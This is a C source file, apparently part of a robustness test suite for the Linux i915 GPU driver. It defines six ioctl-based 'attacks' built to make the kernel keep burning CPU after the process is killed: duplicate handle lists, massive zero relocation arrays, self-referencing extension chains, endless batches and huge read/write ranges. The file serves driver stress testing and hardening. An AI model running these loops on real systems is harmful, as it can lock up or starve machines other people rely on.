// SPDX-License-Identifier: MIT
/**
 * DOC: Calls that take long for what they are given
 *
 * The calls pass a few bytes that state large counts, lists that name one object again and again, and chains of
 * extensions that point to themselves. An attack succeeds if the process goes on taking CPU time after SIGKILL
 * (rounds.c measures it).
 */
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <drm.h>

#include "attack.h"

#define AT		(256ull << 20)
#define HANDLES		200000u
#define RELOCATIONS	30000000ull
#define SHARERS		20u
#define BONDS		65535u

/* One handle, named again and again, and one relocation that makes the driver look handles up. */
static void duplicates(struct attacker *a)
{
	struct drm_i915_gem_exec_object2 *obj = calloc(HANDLES, sizeof(*obj));
	struct drm_i915_gem_relocation_entry reloc = { .offset = 64, .read_domains = I915_GEM_DOMAIN_RENDER };
	int fd = it_open_fd();
	struct it_batch b;

	if (!obj || attack_empty_batch(fd, AT, &b))
		return;
	for (;;) {
		struct drm_i915_gem_execbuffer2 eb = { .buffers_ptr = (uintptr_t)obj, .buffer_count = HANDLES };

		for (unsigned int i = 0; i < HANDLES; i++) {
			obj[i] = (struct drm_i915_gem_exec_object2){ .handle = b.bo->handle };
			if (i == HANDLES - 1) {
				obj[i].relocation_count = 1;
				obj[i].relocs_ptr = (uintptr_t)&reloc;
			}
		}
		reloc.target_handle = b.bo->handle;
		attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_EXECBUFFER2, &eb));
	}
}

/* Relocations of zeros, which nothing has to be allocated for, of several objects. */
static void relocations(struct attacker *a)
{
	struct drm_i915_gem_relocation_entry *list = attack_zeros(RELOCATIONS * sizeof(*list));
	struct drm_i915_gem_exec_object2 obj[SHARERS] = { 0 };
	struct drm_i915_gem_execbuffer2 eb = { .buffers_ptr = (uintptr_t)obj, .buffer_count = SHARERS };
	int fd = it_open_fd();
	struct it_batch b;

	if (!list || attack_empty_batch(fd, AT, &b))
		return;
	eb.flags = I915_EXEC_HANDLE_LUT;
	for (unsigned int i = 0; i < SHARERS; i++) {
		it_bo_create(fd, ATTACK_PAGE, &obj[i].handle);
		obj[i].relocation_count = RELOCATIONS;
		obj[i].relocs_ptr = (uintptr_t)list;
	}
	obj[SHARERS - 1].handle = b.bo->handle;
	for (;;)
		attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_EXECBUFFER2, &eb));
}

/* A timeline extension whose next one is itself. */
static void timelines(struct attacker *a)
{
	static struct drm_i915_gem_exec_fence fences[5000];
	static uint64_t values[ARRAY_SIZE(fences)];
	struct drm_i915_gem_execbuffer_ext_timeline_fences ext = {
		.base.name = DRM_I915_GEM_EXECBUFFER_EXT_TIMELINE_FENCES,
		.base.next_extension = (uintptr_t)&ext,
		.fence_count = ARRAY_SIZE(fences), .handles_ptr = (uintptr_t)fences, .values_ptr = (uintptr_t)values,
	};
	int fd = it_open_fd();
	struct drm_i915_gem_exec_object2 obj = { 0 };
	struct drm_i915_gem_execbuffer2 eb = {
		.buffers_ptr = (uintptr_t)&obj, .buffer_count = 1, .flags = I915_EXEC_USE_EXTENSIONS,
		.cliprects_ptr = (uintptr_t)&ext,
	};
	struct it_batch b;

	if (attack_empty_batch(fd, AT, &b))
		return;
	obj.handle = b.bo->handle;
	fences[0].handle = attack_syncobj(fd, DRM_SYNCOBJ_CREATE_SIGNALED);
	for (unsigned int i = 0; i < ARRAY_SIZE(fences); i++)
		fences[i] = (struct drm_i915_gem_exec_fence){ fences[0].handle, I915_EXEC_FENCE_WAIT };
	for (;;)
		attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_EXECBUFFER2, &eb));
}

/* A bond of an engine map whose next extension is itself. */
static void bonds(struct attacker *a)
{
	I915_DEFINE_CONTEXT_PARAM_ENGINES(map, 1) = { 0 };
	size_t size = sizeof(struct i915_context_engines_bond) + BONDS * sizeof(struct i915_engine_class_instance);
	struct i915_context_engines_bond *bond = calloc(1, size);
	int fd = it_open_fd();
	uint32_t ctx;

	if (!bond || it_ctx_make(fd, &ctx))
		return;
	bond->base.name = I915_CONTEXT_ENGINES_EXT_BOND;
	bond->base.next_extension = (uintptr_t)bond;
	bond->num_bonds = BONDS;
	map.extensions = (uintptr_t)bond;
	for (;;) {
		struct drm_i915_gem_context_param p = {
			.ctx_id = ctx, .param = I915_CONTEXT_PARAM_ENGINES, .size = sizeof(map),
			.value = (uintptr_t)&map,
		};

		attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_CONTEXT_SETPARAM, &p));
	}
}

/* User memory in batches that do not end: the kernel waits for each object when the process has died. */
static void user_memory(struct attacker *a)
{
	int fd = it_open_fd();
	struct it_bo objects[8];
	struct it_batch b;

	if (it_batch_make(fd, ATTACK_PAGE, AT, &b))
		return;
	it_emit_loop(&b);
	memset(objects, 0, sizeof(objects));
	for (unsigned int i = 0; i < ARRAY_SIZE(objects); i++) {
		struct drm_i915_gem_userptr user = { .user_size = 1 << 20 };
		void *memory = attack_zeros(1 << 20);

		if (!memory)
			return;
		memset(memory, 1, 1 << 20);
		user.user_ptr = (uintptr_t)memory;
		attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_USERPTR, &user));
		objects[i] = (struct it_bo){ .fd = fd, .handle = user.handle, .size = 1 << 20 };
		objects[i].address = (512ull + i) << 20;
	}
	attack_count(a, attack_submit(fd, 0, I915_EXEC_RENDER, &b, objects, ARRAY_SIZE(objects)));
	for (;;)
		pause();
}

/* Calls with a range that ends nowhere. */
static void ranges(struct attacker *a)
{
	int fd = it_open_fd();
	uint32_t handle;

	if (it_bo_create(fd, 1ull << 40, &handle))
		return;
	for (;;) {
		struct drm_i915_gem_pread pread = {
			.handle = handle, .offset = attack_roll(a, 1 << 20) * 4096ull, .size = 1ull << 39,
			.data_ptr = (uintptr_t)attack_zeros(1 << 20),
		};
		struct drm_i915_gem_pwrite pwrite = {
			.handle = handle, .offset = pread.offset, .size = pread.size, .data_ptr = pread.data_ptr,
		};
		struct drm_i915_gem_set_domain domain = {
			.handle = handle, .read_domains = I915_GEM_DOMAIN_GTT, .write_domain = I915_GEM_DOMAIN_GTT,
		};
		struct drm_i915_gem_madvise madv = { .handle = handle, .madv = attack_roll(a, 2) };

		switch (attack_roll(a, 4)) {
		case 0:
			attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_PREAD, &pread));
			break;
		case 1:
			attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_PWRITE, &pwrite));
			break;
		case 2:
			attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_SET_DOMAIN, &domain));
			break;
		default:
			attack_count(a, attack_ioctl(fd, DRM_IOCTL_I915_GEM_MADVISE, &madv));
			break;
		}
		munmap((void *)(uintptr_t)pread.data_ptr, 1 << 20);
	}
}

const struct attack attacks_time[] = {
	{ "time-duplicates", 1, 0, duplicates },
	{ "time-relocations", 1, 0, relocations },
	{ "time-timelines", 1, 0, timelines },
	{ "time-bonds", 1, 0, bonds },
	{ "time-userptr", 1, 0, user_memory },
	{ "time-ranges", 1, 0, ranges },
	{ 0 }
};
